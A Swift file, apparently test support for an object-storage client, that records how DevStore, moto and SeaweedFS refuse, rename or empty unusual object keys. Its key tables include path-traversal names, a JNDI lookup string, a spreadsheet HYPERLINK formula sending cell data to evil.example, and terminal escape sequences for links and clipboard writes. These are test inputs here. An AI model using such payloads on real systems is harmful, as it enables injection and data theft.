import DevStore
import ObjectStorage

/// What a store does not keep as it came.
///
/// Long keys are named by their length: `1024 × k`.
struct StoreHabits: Sendable {
  /// Keys that it takes no PUT for, with the code that its answer has.
  var refused: [String: String] = [:]
  /// Keys that the independent client cannot send; ours puts them.
  var unsent: Set<String> = []
  /// Keys that it lists under another name.
  var listedAs: [String: String] = [:]
  /// Keys whose object has no bytes any more.
  var emptied: Set<String> = []
  /// Whether its pages of versions are plain XML although encoding was asked for.
  var versionsArePlain = false
  /// Names that these pages have instead.
  var versionsListedAs: [String: String] = [:]
  /// Why such a page is refused.
  var versionsRefused: String?
  /// Whether the place of a next page can have lost characters, so that only one page gives all keys.
  var losesPlaces = false
  /// What it says of versioning; nil for the truth.
  var versioning: Versioning?

  static func devStore(_ dialect: Dialect) -> StoreHabits {
    // oss2 folds these after it has signed them.
    StoreHabits(unsent: dialect == .oss ? ["a/../b", "../up", "..", "a/.."] : [])
  }

  static func moto(isVersioned: Bool) -> StoreHabits {
    // What it answers about versioning has a root element of its own.
    let lines = ["tab\tnl\ncr\r", "line1\nline2", "line1\r\nline2"]
    return StoreHabits(
      refused: Dictionary(uniqueKeysWithValues: lines.map { ($0, "404") }), versionsArePlain: true,
      versionsRefused: "has the character U+0008", versioning: .unknown)
  }

  /// SeaweedFS keeps objects as files of a tree, whose names are bounded where it keeps no versions.
  static func seaweedFS(isVersioned: Bool) -> StoreHabits {
    var refused = Dictionary(
      uniqueKeysWithValues: ["a/../b", "../up", "..", "a/.."].map { ($0, "InvalidRequest") })
    if !isVersioned {
      for key in ["1024 × k", "256 × f"] { refused[key] = "KeyTooLongError" }
    }
    return StoreHabits(
      refused: refused,
      listedAs: [
        "${jndi:ldap://127.0.0.1/a}": "${jndi:ldap:/127.0.0.1/a}", "....//....//x": "..../..../x",
        "/etc/passwd": "etc/passwd", "/lead": "lead", "a//b": "a/b", "back\\slash": "back/slash",
        "C:\\x": "C:/x",
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"ok\")":
          "=HYPERLINK(\"http:/evil.example/?x=\"&A1,\"ok\")",
        "a\u{1b}]8;;http://evil.example\u{7}text\u{1b}]8;;\u{7}":
          "a\u{1b}]8;;http:/evil.example\u{7}text\u{1b}]8;;\u{7}",
      ],
      emptied: ["trail/", "dir/"], versionsArePlain: true,
      versionsListedAs: [
        "a\u{1b}]52;c;ZXZpbA==\u{7}": "a\u{fffd}]52;c;ZXZpbA==\u{fffd}", "nonchar\u{ffff}": "nonchar\u{fffd}",
        "a\u{1b}]8;;http:/evil.example\u{7}text\u{1b}]8;;\u{7}":
          "a\u{fffd}]8;;http:/evil.example\u{fffd}text\u{fffd}]8;;\u{fffd}",
        "a\u{8}\u{8}\u{8}b": "a\u{fffd}\u{fffd}\u{fffd}b",
      ], losesPlaces: isVersioned)
  }
}
